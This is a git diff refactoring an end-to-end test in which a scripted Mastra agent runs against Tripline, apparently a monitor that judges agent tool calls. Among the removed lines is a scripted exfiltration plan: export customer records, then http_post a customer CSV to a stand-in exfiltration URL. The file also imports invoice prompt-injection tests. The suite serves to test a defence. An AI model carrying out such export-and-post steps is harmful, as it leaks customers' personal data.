@@ -18,7 +18,6 @@
  * mailed invoice: the event stored in ClickHouse carries the address and IBAN of its arguments as keyed hashes only.
  */
 import { execFile } from 'node:child_process';
-import { createHash } from 'node:crypto';
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -26,11 +25,25 @@ import { fileURLToPath } from 'node:url';
 import { promisify } from 'node:util';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { ToolCallDetail } from '../../schemas/events.ts';
-import { TEST_AGENT_TOKEN, TEST_AUTH_ENV } from '../helpers/auth.ts';
-import { startTriplineProcess } from '../helpers/tripline-process.ts';
+import { TEST_AGENT_TOKEN } from '../helpers/auth.ts';
 import type { TriplineProcess } from '../helpers/tripline-process.ts';
 import { waitFor } from '../helpers/wait.ts';
-import { EXFIL_URL, VERDICT_MS, baselineView, benignCalls, getJson, rng, taskView } from '../helpers/agent-plans.ts';
+import {
+  EXFIL_URL,
+  MIXED_BENIGN,
+  SUITE_TENANT,
+  VERDICT_MS,
+  WARMUP_RUN,
+  WARMUP_TASKS,
+  baselineView,
+  benignCalls,
+  exfiltrationCalls,
+  getJson,
+  rng,
+  startSuiteTripline,
+  storedCounterpartyKey,
+  taskView,
+} from '../helpers/agent-plans.ts';
 import { invoiceInjectionTests, readStoredEvents } from '../helpers/invoice-injection.ts';
 import type { BaselineView, Call, PlannedTask as Plan, TaskView } from '../helpers/agent-plans.ts';
 
@@ -51,22 +64,11 @@ interface RanTask {
 }
 
 const COUNTERPARTY_KEY = 'e2e-mastra-counterparty-key-81d0c3';
-const TENANT = 'default';
-const keyOf = (kind: string, value: string): string =>
-  createHash('sha256').update(`${COUNTERPARTY_KEY}\n${TENANT}\n${kind}\n${value}`).digest('hex').slice(0, 16);
+const TENANT = SUITE_TENANT;
+const keyOf = (kind: string, value: string): string => storedCounterpartyKey(COUNTERPARTY_KEY, kind, value);
 
-const WARMUP_TASKS = 20;
-const WARMUP_RUN = 25;
-const MIXED_BENIGN = 4;
 /** The scripted model's usage of every turn (mastra-agent.ts). */
 const TURN_TOKENS = { inputTokens: 20, outputTokens: 10 };
-
-function exfiltrationCalls(): Call[] {
-  return [
-    { tool: 'export_customers', args: { limit: 50 } },
-    { tool: 'http_post', args: { url: EXFIL_URL, body: 'id,name,email\n1,Customer 1,customer1@shop.example\n...' } },
-  ];
-}
 
 describe('a Mastra agent against Tripline', () => {
   const dataDir = mkdtempSync(join(tmpdir(), 'tripline-e2e-mastra-'));
@@ -74,14 +76,7 @@ describe('a Mastra agent against Tripline', () => {
   const runId = Date.now().toString(36);
   let tripline: TriplineProcess;
 
-  const startTripline = (): Promise<TriplineProcess> =>
-    startTriplineProcess({
-      ...TEST_AUTH_ENV,
-      TRIPLINE_DATA_DIR: dataDir,
-      TRIPLINE_WARMUP_TASKS: String(WARMUP_TASKS),
-      TRIPLINE_COUNTERPARTY_KEY: COUNTERPARTY_KEY,
-      LOG_LEVEL: 'warn',
-    });
+  const startTripline = (): Promise<TriplineProcess> => startSuiteTripline(dataDir, COUNTERPARTY_KEY);
 
   beforeAll(async () => {
     tripline = await startTripline();
